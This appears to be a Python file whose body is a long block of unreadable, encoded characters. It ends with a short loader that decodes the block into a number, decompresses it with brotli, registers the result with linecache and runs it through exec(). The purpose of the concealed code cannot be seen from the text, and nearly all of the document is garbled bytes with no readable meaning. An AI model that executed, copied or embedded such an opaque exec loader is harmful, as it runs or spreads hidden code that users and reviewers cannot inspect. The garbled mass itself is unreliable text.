HvЀ̏Ġk&gSq`&w}5˰Dʃ֍}*ĥW{a҅lP{
k7p{{K֞LI_Wm~3U!vc!=EH[6N"P*2ߨ~̇-,"|#>ԇ9IgkER.;ɧ9ԤJ0ū5sj1}&
 ~1'($ƫ7_")$dZ.ľ`Pi1ġ~jTUN>֪ȗ$1' a(f:١%ڸvc'PD8azSF_o2[B\oWĉ&
NSBEJOۅ	D[rvp6<3Nnvϲe2#~PXs&o;Awoz!5ej<>&oN8ԛR]7ȑr`@|9 -͒Ҷ|aV:-gѳwpA0[a#<9Vˎl\ÈJ~ƷFќN)ʷ1Z)zR<yhm{A<Mg+;1L3j<z>bʍ3K̷`|*P,v(yӸ'O^8D,8pXCWN\r=dg9	+7z"@uŔ$ݚ*ƞMgκe)ۅFܷ8<;=Nѐq@LpmKYpånf}GnɅĆJLͰ[`eT,OKSc,WNsJ}nZCθ8T"/_X؛ifj}P-2w.*λ*!c;iJݑl߿*F~OjȮJMhWХ&*PE?SGή48ɍ1BB<+[~(͚dq	%ш[L*-Ln	H-CP;zeH1ۋW.Sĝb#;kYtMխy.Lo͔aS#"sgDAr0lX[Nȫ!${pǒw$#qS:'ϯkؑ%i"{(Rn޴j/k*`ܣ,ArD0(.b:US_{@F2۾l..-i^y׵">C+'RI2!5h0H8za9ԦY~xpV/ȎH"'߻_?	+AQ3%1oiRGr.o
mmaF|k؁^"	C,TA@$>$L@WRY4zZ"lRFݗՃMb4W͘E4"M}7߷/kObYL)gf#ߐ<H)*kVԪ)dׁEv?k'6͔h۶8Н!?{U7h``,V#,*qz0HǴj3tk] ؞b<Ӡ4`Z,4·ЀPE#VЉ)~{ 7H;C~#SAVuPTckF_t{]D-]&lFH6KYރڝx}[S̹X!2v	5@A-E6PN8I­ڝGLr[ys	yW%*0nAS{HBTNRIv 1mD(-X}\GsA̽ˀu]Ƚolua_ bA!MΈ3|)أH22Ӂ`D,LMkq80c.rBfxI-Xݲ	ݵ*K|DOφ=e֯ %j0̲%9"7A{5SzƘӇt"ēGͩBE[ ~rkVj5R/-I*\ko1J%1I^OҘ;2MI\0BGu|Έ]B%zՐ@zY;эAgoIb7ۤaL="8)Y4ξu({Xa:CX4
g+k~>x#x5^^M{35g<4~(Sؼeߔj{m'ُɠ[vbV)CEڰ"_r]b2"+st=Nfͫ"}U"ցIlvtPuDO)noǢ^`1]=4^"Rn|C1|ʇI$
{ŊΦ%Bܧ4Cw,?x$+5SoSBLcxTTقFo/h3òCy@+"yF+|O79ʥH(ay&?8~F]H"W/ŦG>v#e9`܍Ť}PK)MFb\ǲ:a7RC&L-OU
AtLm59)7p̙/g."okT9O8{I^DiZ-Lҟ+ʒF/)t4гHŅ=X

r=?w>Ʋ̨t`3UG
CN0O.ޟQbob]Bwx<ոRLA8NΜH͂H<u'ԑ{ {C޿y[^;ԥFg?Ș9Ș\{?&!m*>	_M/Nn!?ŭ]EJ7xSZ>'aJngKP=eFҔ.)Byp}X !3Q՛Qa542WֻZ
?od| LC+%7(.75ϻ_i%
+a'uwOǛݠiĈuyF}X'MtGm	~8qYjo2aB{c"h^ʔȘcʁgCpIOdMyZH\gǖf2ObtCIIY؁{ʐfہv8ə@Tt7SobE9ֆː"Z':Mf&m޶j}!ohĬ,iI@\ycB.'eQɵ(ѯ,v`%p.BpWQ&V8B+2cäBy`LǵwѕKpYd*+g\
EUkP:08`YZKQ4RS}(ȼ~_X_K~ǓӴt?.hdʂBF"GGk5q®FBm
{Aɦ2xE;Q'Hϼ77܆]xۄآLxHN"97UT2":U[1
;V ۽uGwV2FnӟbQr Zk0КH"*ہ}TY_qA۹˧	8	3lwKSz>3y.C<vJJsnIӼVm~[U$3ho/I-sQ%+^tsߌZ̖]93j-O
sKof6k_o5D-ջ$J؆X2Z+Tvr8_2CRtŝP:'~Y9I?5"ݢ/éhl+#N7{g;[&1b?b>)׽LנE*yE?>$'"Aq3dn,{n"1FQʝ2o+$tX*@' Z>9QSi[`Ӕ	ۼgrM8¦TXŨiZFS[ւe|!D<o$?cgX7v^sqh7YMpE@o)|_ՊeܩPSx݉Ǧ<^0+@n=F̞Ĕ¶kyW>?'u3	wצ)VΝy+%ܝ6ҭ½dt3}%_	*ҥ5ǨoNѢV~+Hvx$:Ic)zؾpʗm
+'mJF/
$}kʓ^̬f>ssLrVܦ8M,Ѣ?݋Эo+ׂ'4޼J,5)05ЯŸz
"vNJ"VvǴNހٶתy˷jF`S`3RVNb1zφ"JW%aJK"Չ(z +'ֲ*2sƷMB$8h!`$vFy	}lٺN}q̚Z6hއA0A`2
lhŨiW(,J ,(ԜlW?8!EJ,SYfG
	DY;/2?(x0J(3(O(Σ'Wْ _owbw]$-A=ͱ49v6b8,0<@|a9܇c|v.ƪ?w2yWp̷^^1Hy,bٝ(4uGD>fچ1ŗiMaه6uVMoҡ1XՁ8Њ:CE8)d5>8\o^zF[ʞ"z0 YL(<ˤF(+;3{^@d3mLC-s\ߩ^"ylbq܋OZ/K4_pu%*7ܛa~~09Grm^B{ͪ;h	v>yZwKv[kIڸbyoVOԔp&E5?laY	O%߻ӆ٪?EKiǌc8Ϸ
>.HlQ\foĒjfz`(~[C-ζ1ǝ/mH_VϴۭPP6DXѹ`eBf8ԼH39oυLD׺Ie~(xRpToZ%?Zzg}3yk@%F?Np-M)wِI39[kԞcF6`w nj$9-DÀoLFI1w}C:C1,\OȮA_ӣBqj'a77@?CZtȁ"@P9&Z9P/1h`jsPMڲxuϚ85ȿ:Laho$i3d%MGsӝAӬT_$ZX<|;}؃A8$.ıP^9,X*d˽>c[w
dm"DҴ62Wς4].WwYPGD9!hUQ֔`*xM[T9(~*զOp<rz7P+,s=$es&ol\Pn=7u?ʓ`obvh)-yԮ06Յ=mb@S&/ɢt[EEsj]zCy*Îi7C90%goYm95WO١[-\]sV`7{lcɘnVcf9Ԛi)2D'bFR!-\Fo@s:U+2\;Nl[u`y=~huڑQܥ	iw8Mb,>΂]eԝAs&IQЈ.*z`[Me)b};	G"HkɎ׽7S)>0_$*ͬpizN8m|Qzp+Cm"ljӮk͜56*|?_ӮiGiK6A=c5\yMvբ,L]A7Tha{t8[bTx#AhExMv9,%yEͮ^OJΡe6L.D<ܔ$("18לyLv6If
`)ii$FheSNBb{ǀit˿xI"˙86BVwzۓ؜=t1Jc2͸7`#+јp'~x ׫͵>Kk	]wl:G·!|ܼ7Ԧ(ܾY)ȆX $ރ|(A3ߙl)ڡ_""@iį`
ڐ{4ZV.ܑZ+\,V8|a1,c1ʵjӽ~_ǊzRq{UL׉@z7:-;0?>>oڠoz5aCjԏYxv 6<'!:T?YӪu=+xܲ]n+7V(ׯyWԝW<wZV}D3M]׹7u4tGJZYҙWM$G[vCߑ)T;f$ϹLZ*lG9LZaǝwRlK5z;Hlmˈܤυ̛4ͻpyrdRoq4M@`7̴bY5bWP2R͑;d(*]1 %.ߪʠۯ"gB_4q.p}ۨFB"G[If/)5k3MPk#Nɬ(|G5ՕzKPռClҠCOps Ȥ_O˝}]О/NT*u]Vk?>J.XԠ"*Ś\W	m"liVKֲ[Lj#s}%,>NaF2/Wf094jA;r4Ȏ
b*G('i"EqlP;EܣXE۬nC.n#59#EͰgښLX<#&Idk`CBwC3Ⱥo&TZ#Ru+nЧ~+sG>mf"{5	ۼ;XQBX 96?ΈR6ǓaŮÎ!$͠Ϛ34ww$Zu(WoX>2ܡҬ05@BS{*LsmØW\~8!u3sg̇.3p~M܀\Yѵa7҈"0XYxۥv`
߇_`YRTQȮҙq̹{#_[tź4ʇV"Xip/!tɭǂ٢BqpS;jr"RSY~&uR\94WڨXTϵAh	z77F>65yr+1M~Qm!'2,{GB:jB#mS[f_ɳY&;k߈(q\X4<pk8^7xJĶYCTڲg^,Ed-H9r=IPJߦ"ӕ\~MHYA)8:X|3c.*7"԰Oױk\}XjT3,nӁ=3xϴKrCuXq_bG* 
ՇU+qgջ^zsֹX!ڸqIz[s+gޘӄ/V	d	:{C8#D~!@NwGr*v-˅L{/[7X3qySjVgEϮ|ז>d^4ʭ?V`<(/&H^|=HywqBb[zՂcxlt
/z/'rG&N',B('`ʟ816vyhmOD_Qo:ݷ'x`Zn*-T	@w<
^&R^$ͪgS"gPS"cͺsg?O_aLA1NUXde^wBzri|5zYpKLGCW0CUYtRd4T9	6]hU#la]\Ҽ)f5M6xP0̓Ugm
T3sGԊIf%SEl7_cxqʝC9ZXnzʗ+CC>.-3ǢәQj?ؚ?a?ܫOe>qOƼdQMV9lʆs&dZ#ĩ+USVl8ąIˍ%Ź{N<b[^&;_և%MN"hyT3E5Ot^%ٵQ|[~R*=<<`~:o;6ZJ(ϻX$Oȍ?rYT6>8ۓtqm?85<|!!gHqt65hț<.ktoS$|vz1z5@ݺC,?h/T6|DvLaVi]4C)G.w.>f	\sey9Ury5}:FЁElJ!R$oy.fZ;O[)+]ZFdlsw~o*#F7{K
"$E"^݇â:	OO3OG=xb)k=yJzB4ٷj\ʙ

͉	o,@YtFIvR:hHN5<\5vOUvKsv>Ļ69:A®CRNVz!,؞Z	ۇ,n'=#qQxƍE	٤'U
H>&g/`^+մȻUK/'1ƍ{Xu$HK-NE˘@ɰA޻<e'{Z&"{+Ĝ˦3oj`$ٞ`n+k:ط-:]5YBe{6G6'ϲ+t0#6FAU=^tVNyR]dnʄs-7nɋ-7l~'uՎO8-%W+,Ԙ+׊/o8wIQ:"bZ"{+m=$GDR5}vYص pp;m$$sr.V1ɿR\"̧bú"5{6J)p4(*ײqˠ|kA]ٳ4.}7vP1K/0'@cלV:q#qUdTğI}w4}G_mAMA
T4UwQG#`A1ʻJph΁p|.	_ؗ}N"swt-V<.?~-EQҧRfQI_56/ήř>Li^/hXlϚH/_JLޤU׭_ȸXE^PtY{heӺ{Pxִ-(I9'݅+[m:Dma=w++@(ȧӖCUE(w%U=Êy0-eE՘'Do;X8=]L
ønsسwà%vȞߓ\3;pԷvѻs	Y1co=c*u6G38&)ʚʟO<,٧d9l[#ʤ̭.,6'tqs`H.q,2fpG6ƴle#d}x]69<9t Kړ_fEj?3bؑɨ 9t2g$Srogw()˨uLU[eWZUsd$֩0yj7Kz/+*3~5яuæ\%"MJ}ޭ}֚GĪoj XD~p6ʒ؊ٯNL%S+ېhQ݁dLΠF^-ڻ2޾)1HE|W=ک*|xP,|]T>(0xTp->Ց$ۈ:D$	!QIْsƉP}Kqm~L̒HQVS"kvOF8A3Xc8&3l:u}h*Ae=>I1[=*&QYB<KڏU˕\M*0F56­% @Oڤ?p@Ӛdte[qE:88
[Y@H~QS?\	3@1yS\jKmmœBTј?qU_c	V"ϛƐa!,'΢YskɳG!a
(¼fu$C^/edoƌLyHוe:ޛ&3nzDCmsb*s<3`s1Lv3@;צ#!HV$W0O1:,v{)|WByY*0V`h=Fb|K|7W-9cFov2mjDEh[]}[LJ0e"e?5)׌Fݍxי9/4]t$qA9ܘO+`IDǅ)2=2
X6Jk8zm;I Sy(,%b}q;9*[yENBm׉s%:<'XROP[1 CyKI|UF3ÀmWl8[Փ|J]Έy^5t{a7r]Ιa0`5JC@*yԠF;)܂SsA{+V<ROb +d:55!90O(c\ʄV*jk	,%5VC=%ǝ\޶ι-:@u{$,0՚]QS3݇[GT:0^E͎
pҒY7FE@|VCݏ31[~5d(̔N|rթ+OmoA2Of+q_r#G(ih$?!b/LRvVRӂ|*me5eg-'$!9ǲ>Цsp2Uy5"|S"vp3E,>	ӈx̅\CT}e*;IpHV:1bٮM4-xբ<`{w c&hDk9(+2<u/!cqOM$oOeGqEcσ]ma~z\QA;lJ	Yo&wz}ci:˹ŮTVј03@{LR6Yd$jhI1^YƑ+mG-5ØHVq; 45W:cCP9u,$6iuo~nU^QK$SuNng*pdK!}2{nn
ml9O@:1ܟO 6f٬G4gVll]}pEvz7F+ghc/
{%s?7_C56,df!t}cGSm!4<q~ky4Z$Mj{|-aKJOH&ڲSV2І2gb_aD`6Ř+:$An3,?rEbLDޤpwD}MaJھ//J|;4G. יY?8a?ıLCk2΍{ޑ[N6ʳg}B4/o@-#_R#ŕBmn-JT\qȣ4U_p־ȢbOQm`Bm=|tW%C6VXy3و{v%I^|x՟ҤZ%=-~eԐ#{Xx#:Fe?ˊZ E#G, pI,$eSbw]qmUt~:Eg.LNq)fmY)e'k:5o-WP@e%Hq@ʲry&-dÂAVwd.8REHhɊ}1Ww>GnU.QmdAcr5۶d2|@S$t;!˒]cI:`p69Ӈ
SAΣ)ߔ[28wc*31&D:1hWvCόX?P%I})-N:zYK4ݼmVðPSrZ,87۱QKƗo
Qig9vb5']1Wkij4u"fڲY(1nPK֩J)37z.gŴMݢsEk2Yj%7ÍJN\ɥLPMIY*64
zm&&zbe:C4Bk͞-(^ߢ/ҥwn
meu-W=L/Ŷo7T׈,f6c{
ܐٕI(W\ɰzXcgBɄk`̝,367EE7H^
>+[S<ǁ=SX!|xȸTzC7XJ߿Y	-aP4P<rx";Aܗ5!U#bޱkzO!M2uy@YܑC+:=1_(XFd3߰7PjoeOdד4adbV+ҘcA);ÓUaf.[.`2ޝޅ7dhI_ĉ&2ި*z9eq_jgH[>sD|0i	IcGu%M]R*]txU}}F?yGՎO#[-P^6pN]|hmk@[-XRdJ	msd˒Z^L#E^Xf(j/SM1$HVFrk7f`@VE!fKe8]T|ʷcm;NOAoy~;eX;f:O
x\q86P`ddL7VB޼8èmM*=JLo~i4L7BM=?JxCؘC9@O]<Aи:@2	.@63P?@<{9ý
Hסm)1`}(^-2Ա$G2(E,[ڀbI}pmGR3(vJѨ4 ǾgcLbeϘu~AEPݙ%lMv<m<2sK'[E@Rܙh(]LCΨ-b-2@,ϩO@e/O-Ry29-2OCz=c&k7ŗGa}!7%k\h!qƐIdIc}KTPIN]Ιqxt22_ƾlA%hۿڳL #ī8+_Uf˕	bĠ!{fomL(0YyAɖiJƌbExÕgpXaӘfУA^+Do&czA@ђ`=,S2ɕf8 4b%+FwUٔĘ̘$ɥ}86
WFiv[IKc}<c5aWˢڨL˟h"h/yZšuF	ihmDVTMѧ(^KJ&F3nSH(ռ/Y`:;=n*9ٚӿe߻<Х64jwC37c/_=U2Yf\NXDMfw	1֌%+pM*wP4qx'Į9C[aK2²ZR%V=:ؐ<ۃl$qDJxF<°S`u;?)$f=@7ŭͻln0?M2K܏E߉8,[OS0cqxnEԩXn'+Ӎɮފ>sWG+Ş[%L[ RpvWad?*^[bŐ̖xڑ0>/f]`?~+<v1֍<E~(<!T;=H!aK3"4%'Y1cza!bt_KCP1w6b^ĨNvb._XxF7;،xU-݁ss5wH( ǿ>vok\׈?vYFNDjԚb+}
)AivvQhaWQ$}n	'9IhE:O0{[ο͵>o	0f Gj$KʹC#JVTsJA6{Іcw
B؅*{߅߁CLn|Á}LKD{EXڙ"uŊl[Vt6Ǽ5occMX=I>YccW#Ͽϗfϰ-Ў_]AX;$ZO/nrhY7Wbܞx#y?|slz,Xً5փah?Dp!n.nx/!̰3}Lla;!=w$M޳j;ylKʚ3A/~7:fɭ@.bZp3MDˊт+]%&Uĩ&vÄG6](:v	ёQu*=e6*Іn&ϕ:oyyD	iH$̓ҾЖ(D^{Rw+fa~/iTdGW3s(}ʎUJc^ұ,>}txJpCdF3̅!&FמAqЃP׳n%ѾJo{{1ݕ٦	w.+c01ȕIȍQYp2aiMTrX	Iɷ	(u4<ȫ*`%k7ܟ	L3=;`9Sv)rCӟ}y(~cĘF{2pY{
|HqPU+dyh&U	ǒ@j9q)$@u-Րh79T͚ۗTФa:<\M\åqSƈ'
k	(f/("NOHAOe!=sX7=#y<ؖBބa>ٹEbǑjĖ:LQ
e3/|ӌ,D:
rؗזVdޠWn(]iϿƛ[)g$T&:Hk{7
ͪK?F$r7]@ߚdش8s0%!c͋DV@djߞ^vKƝHK|!\&)~%Tb@meh!+Z<g+w[ɨ_$ڕŷ/te2M'$W3y8;̭@մ?cp{1ח
v˿Kg"p`iVe_ r.;hCvɕ,!Bne;LqڇIǱ=u:0DK=x?]ȀL:(<KRȾe؁6|UPdqWg)uǀIkP%%3٪IsrJ-	jBebh{u)4ux!ǴCz"DV_4	1Ԭ hRIT9D]Nֶc^
\nE(+Ҟˊz2bHќ J-x..[+Tl^bz-ƭ|A.Dݜ_NlA"%#i25*# E]+$g˸+<-rv,$%лtɣ;7*%%LI*IbvfG)Ew pʾse3+>tVpSę#3*¥.QGnێm2%!RдɂS(A+C/OeT.:&ֱsؔ gWf
#׫(}7RƂXL*Jh/׎WŹdurPX)$ 9c:ЗηX\O\gm:ڨ6'ܕ˴AUi5ܮܖ#`*~'/uLUg{,7pRtl<pNCCB/4 rI7",Z7(,<uƢhqIc)E=}*)w\Rh=b.̣bt̇/΍}I%M:ZNB"{no0/?\JEl3>&r-ٔ38GPo7Gj!lspQ
{ *"53m-DctUu6seٌK>׺XI+8ͩtY TVjjb1wR>3ӊDqfBG?}`WmybR(	l_ݗjZ3yh%7	O1Ǽ"/	CGǻEf+g۝.'Ǥ7*$&,ΕgB=w{;R(6k̑N%k}tĴmK$.ɽՈP&kܖk`egcdPў~Rw"QDѐ2=_ƃڸݨ̻EOZǓvBm;;?|y"ʣM&d_:7VV](hGW@WJm\)Ofr>|@30uЩh(Jüav,)9BY{d[Fl8(2dXi4Fa \=ө)׽1"	6yj"z]gc0=}M"G(|4fo=ҁ6lfTFԋ2FN+Km$jKε?hϏUeۻG\ %@q bzB4^Kel!Vp1.^B29-|׼Ҩ4ѝAȤMg-֯y'.ߤG}0bjПgCdBl֚̓NAhϗW+({t6x8eO;GOs}IK4qGgZ]rSM2LoqviX'yl!k5>نR<Ȑ!ͱ~v@z?29 }JUu2[K5095ZiDBc_0ڰ{ȰUdwgrœ]9[AA*P9yMSմl%ʪ}a'$V71*ۏnFc3R/N[]ՀF$&J{еVU@;qY^>rzxIF9,6UUHGÝ5<a=w]οcIMI%J4^	R
''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25349)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
